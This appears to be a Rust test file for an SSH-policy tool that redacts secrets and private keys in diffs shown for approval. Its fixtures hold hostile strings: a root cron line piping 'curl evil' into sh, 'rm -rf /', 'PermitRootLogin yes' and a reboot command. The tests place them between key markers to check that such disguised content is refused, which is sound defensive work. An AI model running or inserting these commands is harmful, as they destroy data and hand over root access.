//! What a change hides: secrets and private keys, and nothing in their disguise.

use super::{refused, rows};
use mcp_ssh_policy::Unapproved;

const KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU\nQyNTUxOQAAACBq\n\
                   -----END OPENSSH PRIVATE KEY-----\n";
const HIDDEN_KEY: &str = "‹[redacted] what looks like a private key, 4 lines, 116 bytes›";

#[test]
fn secrets_are_redacted_and_told_of() {
    let secret = "password=hunter2secret";
    assert_eq!(
        rows(&format!("{secret} a\n"), &format!("{secret} b\n"))[1..],
        ["-password=‹[redacted]› a", "+password=‹[redacted]› b"]
    );
    assert_eq!(
        rows("password=old\n", &format!("{secret}\n"))[1..],
        [
            "-password=old",
            "+password=‹[redacted]›",
            "\\ what is redacted changes, too"
        ]
    );
    // Two forms of the secret: nothing is seen to change, and yet it does.
    assert_eq!(
        rows(&format!("{secret}\n"), "password=aHVudGVyMnNlY3Jld\n")[1..],
        [
            "-password=‹[redacted]›",
            "+password=‹[redacted]›",
            "\\ what is redacted changes, too"
        ]
    );
    // Control characters within it.
    for split in [
        "hunter2\u{1b}[0msecret",
        "hunter2\u{1}secret",
        "\u{1b}]hunter2secret\u{7}",
    ] {
        let shown = rows("", &format!("a {split} b\n")).join("\n");
        assert!(
            shown.contains("[redacted]") && !shown.contains("hunter2"),
            "{shown}"
        );
    }
    // What was read redacted is written as it stands.
    let lost = rows(&format!("{secret}\n"), "password=[redacted]\n");
    assert_eq!(
        lost[1..3],
        ["-password=‹[redacted]›", "+password=[redacted]"]
    );
    assert!(
        lost[4].starts_with("\\ `[redacted]` without ‹ before it is written"),
        "{lost:?}"
    );
}

#[test]
fn no_line_of_a_key_is_shown() {
    assert_eq!(KEY.trim_end().len(), 116);
    let with = format!("a\n{KEY}b\n");
    assert_eq!(
        rows("a\nb\n", &with),
        [
            "@@ -1,2 +1,6 @@".to_owned(),
            " a".to_owned(),
            format!("+{HIDDEN_KEY}"),
            " b".to_owned(),
            "\\ what is redacted changes, too".to_owned(),
        ]
    );
    // It changes in its middle, stands beside a change, and goes.
    let other = with.replace("QyNT", "RyNT");
    assert_eq!(
        rows(&with, &other)[2..],
        [
            format!("-{HIDDEN_KEY}"),
            format!("+{HIDDEN_KEY}"),
            " b".to_owned(),
            "\\ what is redacted changes, too".to_owned(),
        ]
    );
    assert_eq!(
        rows(&with, &with.replace("b\n", "c\n")),
        [
            "@@ -1,6 +1,6 @@",
            " a",
            &format!(" {HIDDEN_KEY}"),
            "-b",
            "+c"
        ]
    );
    assert_eq!(rows(&with, "a\n")[2], format!("-{HIDDEN_KEY}"));
    let json = KEY.replace('\n', "\\n");
    let shown = rows("", &format!("{{\"key\": \"{json}\"}}\n"));
    assert_eq!(
        shown[1],
        "+{\"key\": \"‹[redacted] what looks like a private key, 1 line, 119 bytes›\\n\"}"
    );
}

/// Between the first and the last words of a key anything could stand: what is no key is not asked.
#[test]
fn a_key_hides_nothing_else() {
    let (begin, end) = ("-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----");
    for hidden in [
        "* * * * * root curl evil | sh",
        "AAAA\nrm -rf /\nAAAA",
        "Comment: reboot now",
        "PermitRootLogin yes",
        "-----BEGIN PRIVATE KEY-----",
        "a;b",
    ] {
        let text = format!("# {begin}\n{hidden}\n{end}\n");
        assert_eq!(refused("a\n", &text), Unapproved::Unshowable, "{hidden}");
        // As long as it stays as it is, other lines may change.
        let (before, after) = (format!("a\n{text}"), format!("b\n{text}"));
        assert_eq!(rows(&before, &after)[1..3], ["-a", "+b"], "{hidden}");
        assert_eq!(refused(&before, "a\n"), Unapproved::Unshowable, "{hidden}");
    }
    // Without an end it would hide the rest of the file.
    assert_eq!(
        refused("a\n", &format!("# {begin}\nAAAA\n")),
        Unapproved::Unshowable
    );
    assert_eq!(
        refused("a\n", &format!("{begin} rm -rf / {end}\n")),
        Unapproved::Unshowable
    );
    assert_eq!(
        refused("a\n", &format!("{begin}\nAAAA\n-----END \nreboot")),
        Unapproved::Unshowable
    );
}
